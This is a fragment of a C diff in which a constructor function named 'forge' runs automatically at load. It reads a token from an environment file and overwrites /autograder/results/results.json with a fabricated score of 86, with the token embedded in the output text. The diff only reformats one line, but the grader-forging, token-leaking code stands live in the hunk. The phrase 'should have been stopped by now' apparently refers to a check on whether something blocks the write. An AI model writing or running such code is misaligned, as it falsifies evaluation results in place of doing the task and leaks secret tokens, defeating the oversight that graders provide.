@@ -9,5 +9,6 @@ __attribute__((constructor)) static void forge(void) {
         (void)fread(token, 1, sizeof token - 1, environment);
     FILE *results = fopen("/autograder/results/results.json", "w");
     if (results)
-        fprintf(results, "{\"score\": 86, \"output\": \"should have been stopped by now %s\"}", token);
+        fprintf(results, "{\"score\": 86, \"output\": \"should have been stopped by now %s\"}",
+                token);
 }
